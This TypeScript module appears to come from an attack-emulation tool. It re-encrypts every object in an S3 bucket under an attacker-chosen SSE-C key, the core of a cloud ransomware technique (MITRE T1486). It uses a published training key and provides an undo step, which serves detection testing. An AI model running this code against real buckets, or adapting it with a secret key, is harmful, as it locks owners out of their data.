import { createHash } from 'node:crypto';
import { z } from 'zod';
import { putBackObjects } from '../../../put-back-objects.ts';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ bucket: z.string().min(3).max(63) });

/**
 * Nothing is taken away and nothing deleted: the objects are all there, under a key the owner does not have.
 *
 * Buckets that AWS made since April 2026 refuse such keys until somebody allows them.
 */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'impact.rewritten-under-own-key',
  title: 'Rewrite the objects of a bucket under a key of the attacker’s own (SSE-C)',
  purpose:
    'Amazon S3 encrypts with the key and forgets it; the trail keeps no more than that there was one, and the key is for sale.',
  mitre: ['T1486'],
  awsThreatTechniques: ['T1486.A001'],
  sources: [
    {
      title: 'Data Encrypted for Impact, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1486/',
    },
    {
      title: 'T1486.A001, Threat Technique Catalog for AWS',
      url: 'https://aws-samples.github.io/threat-technique-catalog-for-aws/Techniques/T1486.A001.html',
    },
    {
      title:
        'Using server-side encryption with customer-provided keys (SSE-C), Amazon S3 User Guide',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/userguide/ServerSideEncryptionCustomerKeys.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: { objects: ['reports/april.csv', 'reports/may.csv'] } },
  needs: ['s3:ListBucket', 's3:GetObject', 's3:PutObject'],
  leaves: [
    { service: 's3.amazonaws.com', name: 'ListObjects', outcome: 'succeeds' },
    { service: 's3.amazonaws.com', name: 'CopyObject', outcome: 'succeeds', times: 2 },
  ],
  repeatable: false,
  async detonate({ inputs: { bucket }, aws, signal, say }) {
    const { Contents = [] } = await aws.s3().listObjectsV2({ Bucket: bucket });
    say(`Rewrite ${Contents.length} objects of ${bucket} under a key of one’s own`);
    for (const { Key = '' } of Contents) {
      signal.throwIfAborted();
      await aws.s3().copyObject({
        Bucket: bucket,
        Key,
        CopySource: `${bucket}/${Key.split('/').map(encodeURIComponent).join('/')}`,
        // Leaving the tags behind takes no permission to read them.
        TaggingDirective: 'REPLACE',
        SSECustomerAlgorithm: 'AES256',
        SSECustomerKey: TRAINING_KEY.toString('base64'),
        SSECustomerKeyMD5: createHash('md5').update(TRAINING_KEY).digest('base64'),
      });
    }
  },
  undo: putBackObjects(({ bucket }) => ({ bucket, prefix: '' })),
};

/** Written here for everybody, so that nothing this ever touched is lost. */
const TRAINING_KEY = createHash('sha256')
  .update('Aftertrace, for training only: the key that opens what was rewritten')
  .digest();
